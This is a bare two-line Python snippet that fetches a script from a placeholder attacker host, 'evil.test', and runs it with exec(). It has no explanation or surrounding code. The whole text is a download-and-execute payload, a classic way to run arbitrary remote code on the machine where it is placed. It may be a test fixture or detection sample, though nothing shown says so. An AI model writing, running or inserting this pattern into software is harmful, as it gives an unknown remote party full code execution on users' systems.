import urllib.request
exec(urllib.request.urlopen('https://evil.test/p.py').read())
